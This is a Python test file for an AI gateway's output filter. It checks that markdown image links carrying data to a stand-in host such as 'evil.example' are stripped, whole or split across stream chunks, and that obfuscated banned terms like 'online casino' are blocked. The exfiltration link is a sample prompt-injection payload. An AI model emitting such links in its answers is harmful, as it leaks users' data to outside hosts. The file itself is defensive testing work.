"""The output policy the way it is attacked: exfiltration links in answers (whole and split
across stream deltas), banned terms written in Traditional script, full-width or spaced out —
through the gateway against a real local HTTP upstream."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Callable, Iterator
from typing import Any

import pytest

from hanlin.config import load_settings
from hanlin.guard.output import OutputPolicy
from hanlin.guard.policy import user_facing
from hanlin.guard.terms import Bank, TermMatcher
from hanlin.models.gateway import Gateway
from hanlin.models.types import Finish, TextDelta
from hanlin.testing.upstream import FakeUpstream, Reply, UpstreamServer

CHAT = "/v1/chat/completions"
EXFIL = "![chart](https://evil.example/log.png?d=13812345678)"
ANSWER = f"Here is the chart: {EXFIL} and the docs at [docs](https://docs.good.example/x?y=1)."
REFUSAL = "REFUSED."


def _chunk(delta: dict[str, Any], finish: str | None = None) -> str:
    body = {
        "id": "c",
        "object": "chat.completion.chunk",
        "created": 1,
        "model": "m",
        "choices": [{"index": 0, "delta": delta, "finish_reason": finish}],
    }
    return "data: " + json.dumps(body, ensure_ascii=False)


def _reply(text: str, size: int) -> Callable[[dict[str, Any]], Reply]:
    def reply(body: dict[str, Any]) -> Reply:
        if not body.get("stream"):
            msg = {"role": "assistant", "content": text}
            choice = {"index": 0, "message": msg, "finish_reason": "stop"}
            return Reply(json={"id": "c", "object": "chat.completion", "choices": [choice]})
        pieces = [text[i : i + size] for i in range(0, len(text), size)]
        events = [_chunk({"content": p}) for p in pieces]
        return Reply(sse=[*events, _chunk({}, "stop"), "data: [DONE]"])

    return reply


@pytest.fixture(scope="module")
def server() -> Iterator[UpstreamServer]:
    with UpstreamServer(FakeUpstream()) as s:
        yield s


def _scripted(server: UpstreamServer, answer: str, size: int, n: int = 1) -> None:
    server.app.reset()
    server.app.script(CHAT, *(_reply(answer, size)({"stream": True}) for _ in range(n)))


def _gateway(server: UpstreamServer, **guard: Any) -> Gateway:
    models = {"endpoints": {"fake": {"base_url": server.url}}, "retries": 0, "cache": False}
    guard = {"allowed_link_hosts": ["good.example"], "refusal_text": REFUSAL, **guard}
    return Gateway(load_settings(models=models, guard=guard))


def _non_streamed(server: UpstreamServer, answer: str, **guard: Any) -> Any:
    server.app.reset()
    server.app.script(CHAT, _reply(answer, 3)({"stream": False}))
    gw = _gateway(server, **guard)

    async def run() -> Any:
        with user_facing():
            return await gw.achat("hi", "fake/m")

    try:
        return asyncio.run(run())
    finally:
        gw.close()


def _streamed(server: UpstreamServer, answer: str, size: int, **guard: Any) -> list[Any]:
    _scripted(server, answer, size)
    gw = _gateway(server, **guard)

    async def run() -> list[Any]:
        with user_facing():
            stream = gw.astream("hi", "fake/m")
        return [e async for e in stream]

    try:
        return asyncio.run(run())
    finally:
        gw.close()


def _text(events: list[Any]) -> str:
    return "".join(e.text for e in events if isinstance(e, TextDelta))


def test_an_exfiltration_image_in_an_answer_is_neutralised(server: UpstreamServer) -> None:
    resp = _non_streamed(server, ANSWER)
    assert "evil.example/log" not in resp.text and "13812345678" not in resp.text
    assert "[image removed: evil.example]" in resp.text
    assert "[docs](https://docs.good.example/x?y=1)" in resp.text  # an allowed host stays


@pytest.mark.parametrize("size", [1, 2, 3, 5, 7, 11])
def test_a_link_split_across_stream_deltas_is_neutralised(
    server: UpstreamServer, size: int
) -> None:
    events = _streamed(server, ANSWER, size)
    pieces = [e.text for e in events if isinstance(e, TextDelta)]
    text = "".join(pieces)
    assert "evil.example/log" not in text and "13812345678" not in text
    assert "evil" not in "".join(p for p in pieces if "removed" not in p)  # never half shown
    assert text == _non_streamed(server, ANSWER).text  # the same as the whole answer


def test_links_are_kept_where_no_person_reads_the_output(server: UpstreamServer) -> None:
    server.app.reset()
    server.app.script(CHAT, _reply(ANSWER, 3)({"stream": False}))
    gw = _gateway(server)
    try:
        assert gw.chat("hi", "fake/m").text == ANSWER  # a plan, a workflow node: no scope
    finally:
        gw.close()


@pytest.mark.parametrize(
    "written",
    [
        "欢迎访问賭博網站。",
        "欢迎访问 赌 博 网 站。",
        "Try our ＯＮＬＩＮＥ ＣＡＳＩＮＯ today",
        "o.n.l.i.n.e c-a-s-i-n-o!",
    ],
)
def test_a_banned_term_is_blocked_however_it_is_written(
    server: UpstreamServer, written: str
) -> None:
    resp = _non_streamed(server, written, term_banks=["sample"])
    assert resp.text == REFUSAL and resp.finish_reason == "content_filter"
    events = _streamed(server, "Sure. " + written, 2, term_banks=["sample"])
    text = _text(events)
    assert text.endswith(REFUSAL) and isinstance(events[-1], Finish)
    assert events[-1].reason == "content_filter"
    banned = written.rstrip("。!").split()[-1]
    assert banned not in text


def test_a_masked_term_is_masked_in_whole_and_streamed_answers(server: UpstreamServer) -> None:
    answer = "关于蓝鸟计划，请看内部报价单。"
    resp = _non_streamed(server, answer, term_banks=["sample"])
    assert resp.text == "关于****，请看*****。"
    assert _text(_streamed(server, answer, 1, term_banks=["sample"])) == resp.text


def test_benign_text_passes_unchanged(server: UpstreamServer) -> None:
    benign = "The casino scene in the film is online now; classes assign homework. 网络很好。"
    resp = _non_streamed(server, benign, term_banks=["sample"])
    assert resp.text == benign and resp.finish_reason == "stop"


def test_a_stream_holds_back_only_what_could_still_become_a_term_or_link() -> None:
    policy = OutputPolicy(TermMatcher([Bank("x", "mask", ("blue bird",))]), [], "no")
    out = policy.stream()
    assert out.feed("hello wor") == "hello wor"  # nothing held: not the start of anything
    assert out.feed("ld, blue ") == "ld, "  # "blue " may become "blue bird"
    assert out.feed("bi") == ""
    assert out.feed("rd! see https://x.") == "*********! see "
    assert out.feed("example/a ok") == "[link removed: x.example] ok"
    assert out.flush() == ""
    assert [h.rule for h in out.hits] == ["TERM:x", "LINK-URL"]
